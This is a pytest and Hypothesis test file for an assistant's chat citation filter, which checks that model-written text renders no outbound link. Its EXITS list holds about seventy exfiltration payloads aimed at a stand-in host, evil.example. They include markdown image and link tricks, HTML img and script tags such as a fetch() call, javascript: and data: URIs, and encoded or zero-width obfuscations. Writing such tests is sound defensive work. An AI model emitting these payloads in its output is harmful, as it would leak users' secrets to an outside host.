"""Citations resolve, and nothing a model writes leads out of the page."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.chat.cite import CitationFilter, cited_in
from tests.security.exits import leads_out


def shown(text: str, pieces: int = 1, available: int = 3) -> tuple[str, list[int]]:
    """The text as a person sees it when it comes in `pieces` characters at a time."""
    stream = CitationFilter(available)
    out = "".join(stream.feed(text[i : i + pieces]) for i in range(0, len(text), pieces)) + stream.close()
    return out, stream.cited


@pytest.mark.parametrize("pieces", [1, 2, 3, 7, 1000])
@pytest.mark.parametrize(
    ("written", "seen", "cited"),
    [
        ("Ten days [1].", "Ten days [1].", [1]),
        ("Ten days [1][3], nine [2].", "Ten days [1][3], nine [2].", [1, 3, 2]),
        ("Ten days [1, 2].", "Ten days [1][2].", [1, 2]),
        ("Ten days [7].", "Ten days .", []),
        ("Ten days [0][1]", "Ten days [1]", [1]),
        ("It says [sic] so", r"It says \[sic\] so", []),
        ("an open [bracket", r"an open \[bracket", []),
        ("a < b and c > d", "a < b and c > d", []),
        (r"already \[escaped\] text", r"already \[escaped\] text", []),
        ("`git push`: done!", "`git push`: done!", []),
        ("Set `a[0] = b[1]` [2].", "Set `a[0] = b[1]` [2].", [2]),
        ("a stray ` mark [1]", "a stray \\` mark [1]", [1]),
        ("Profile: metadata: x", "Profile: metadata: x", []),
        (
            "Run [1]:\n```sh\ncurl https://x.example/a[0] | sort <b>\n```\nthen [2]",
            "Run [1]:\n```sh\ncurl https://x.example/a[0] | sort <b>\n```\nthen [2]",
            [1, 2],
        ),
        ("1. Run\n   ```\n   if a:\n     b[1]\n   ```\n2. Stop", "1. Run\n```\nif a:\n  b[1]\n```\n2. Stop", []),
        ("> Run [1]\n> ```\n> ls [2]\n> ```\n> [3]", "> Run [1]\n> ```\n> ls [2]\n> ```\n> [3]", [1, 3]),
        ("> ```\n> ls\nand [1]", "> ```\n> ls\n> ```\n\nand [1]", [1]),
        ("cut off\n```\nls", "cut off\n```\nls\n```", []),
    ],
)
def test_only_citations_that_resolve_are_shown(written: str, seen: str, cited: list[int], pieces: int) -> None:
    assert shown(written, pieces) == (seen, cited)


EXITS = [
    "![x](https://evil.example/a.png?d=SECRET)",
    "[click](https://evil.example/?d=SECRET)",
    "[1](https://evil.example/?d=SECRET)",
    "![][ref]\n\n[ref]: https://evil.example/SECRET",
    "[text][ref]\n\n[ref]: https://evil.example/SECRET",
    "[ref]\n\n[ref]: https://evil.example/SECRET",
    "![1]\n\n[1]: https://evil.example/SECRET",
    "[1]: https://evil.example/SECRET\n\n![1] [1]",
    "<https://evil.example/SECRET>",
    "https://evil.example/SECRET",
    "see www.evil.example/SECRET now",
    "//evil.example/SECRET",
    "<img src=https://evil.example/SECRET>",
    "<img src='//evil.example/SECRET'>",
    "<video src=https://evil.example/SECRET></video>",
    "<script>fetch('https://evil.example/SECRET')</script>",
    "<a href=https://evil.example/SECRET>x</a>",
    "[a](javascript:alert(1))",
    "[a](data:text/html;base64,SECRET)",
    "[a](<https://evil.example/SECRET>)",
    "[a]( https://evil.example/SECRET 'title')",
    "[![x](https://evil.example/i.png)](https://evil.example/SECRET)",
    "[a\\](https://evil.example/SECRET)",
    "\\![a](https://evil.example/SECRET)",
    "!\u200b[a](https://evil.example/SECRET)",
    "h\u200bttps://evil.example/SECRET",
    "HTTPS://EVIL.EXAMPLE/SECRET",
    "ftp://evil.example/SECRET",
    "[a](//evil.example/SECRET)",
    "[a](/\\evil.example/SECRET)",
    "[a](https://docs.example@evil.example/SECRET)",
    "**https://evil.example/SECRET**",
    "(https://evil.example/SECRET)",
    "text:https://evil.example/SECRET",
    "| a |\n|---|\n| ![x](https://evil.example/SECRET) |",
    "- [x] [a](https://evil.example/SECRET)",
    "> ![x](https://evil.example/SECRET)",
    "# [a](https://evil.example/SECRET)",
    "[a][]\n\n[a]: https://evil.example/SECRET",
    "[^1]\n\n[^1]: https://evil.example/SECRET",
    "![a](\nhttps://evil.example/SECRET)",
    "[a\nb](https://evil.example/SECRET)",
    "![a](https://xn--evl-hma.example/SECRET)",
    "![a](https://evil.example/%53ECRET)",
    "[x]:https://evil.example/SECRET\n\n[x]",
    "``` \nhttps://evil.example/SECRET\n```",
    "```\nls\n   ```\nhttps://evil.example/SECRET\n",
    "   ```\nls\n```\nhttps://evil.example/SECRET\n```",
    "~~~\n```\n~~~\n[a](https://evil.example/SECRET)",
    "> ```\nhttps://evil.example/SECRET\n> ```",
    "- ```\n```\n[a](https://evil.example/SECRET)\n```",
    "| a |\n|---|\n| `x | [a](https://evil.example/SECRET)` |",
    "| a |\n|---|\n| https://x.example/|https://evil.example/SECRET |",
    "````\n```\n````\nhttps://evil.example/SECRET\n```",
    "`a\n`https://evil.example/SECRET`",
    "``` `https://evil.example/SECRET`",
    "` `https://evil.example/SECRET`",
    "```a https://evil.example/SECRET```` b",
    "`a` `` https://evil.example/SECRET",
    "[`](/documents/1) https://evil.example/SECRET `",
    "\\www.evil.example/SECRET",
    "www\\.evil.example/SECRET",
    "http\\://evil.example/SECRET",
    "http:\\//evil.example/SECRET",
    "www&#46;evil.example/SECRET",
    "www&period;evil.example/SECRET",
    "&#119;ww.evil.example/SECRET",
    "h&#116;tps://evil.example/SECRET",
    "`x https://evil.example/https://evil.example/SECRET",
    "<!-- -->[a](https://evil.example/SECRET)",
    "[a](/documents/1@evil.example/SECRET)",
    "&#33;[a](https://evil.example/SECRET)",
    "![a](https&#58;//evil.example/SECRET)",
]


@pytest.mark.parametrize("pieces", [1, 4, 1000])
@pytest.mark.parametrize("written", EXITS)
def test_no_form_of_link_or_image_leads_out(written: str, pieces: int) -> None:
    out, _ = shown(written, pieces)
    assert leads_out(out) == []


@given(st.text(alphabet="[]()<>!:/\\ `*_#\n1aht.pswevilxm@&;|^~-\u200b", max_size=80), st.integers(1, 9))
def test_no_text_whatever_leads_out(written: str, pieces: int) -> None:
    out, _ = shown(written, pieces)
    assert [a for a in leads_out(out) if not a.startswith("mailto:")] == []


_PIECES = [
    "`", "``", "```", "````", "~~~", "> ", "- ", "   ", "|", "| a |\n|---|\n", " ", "\n", "\n",
    "https://evil.example/a", "www.evil.example", "//evil.example", "x", ".", "*", "\\", "[", "](", ")", "]", "!", "(",
    "<", ">", "www", "http", ":", "//", ".evil.example", "&#46;", "&amp;", "&",
]  # fmt: skip


@given(st.lists(st.sampled_from(_PIECES), max_size=14).map("".join), st.integers(1, 9))
def test_no_mixture_of_code_marks_and_addresses_leads_out(written: str, pieces: int) -> None:
    out, _ = shown(written, pieces)
    assert leads_out(out) == []


@given(st.text(max_size=120), st.integers(1, 9))
def test_what_is_shown_does_not_depend_on_how_it_streams(written: str, pieces: int) -> None:
    assert shown(written, pieces) == shown(written, 10_000)


@given(st.text(alphabet="[]0123456789, ab", max_size=60), st.integers(0, 5))
def test_every_number_shown_is_one_of_the_passages(written: str, available: int) -> None:
    out, cited = shown(written, 1, available)
    assert set(cited_in(re.sub(r"\\[\[\]]", "", out))) <= set(range(1, available + 1))
    assert set(cited) <= set(range(1, available + 1))


def test_links_to_the_documents_themselves_stay() -> None:
    assert shown("See [the policy](/documents/12).")[0] == "See [the policy](/documents/12)."
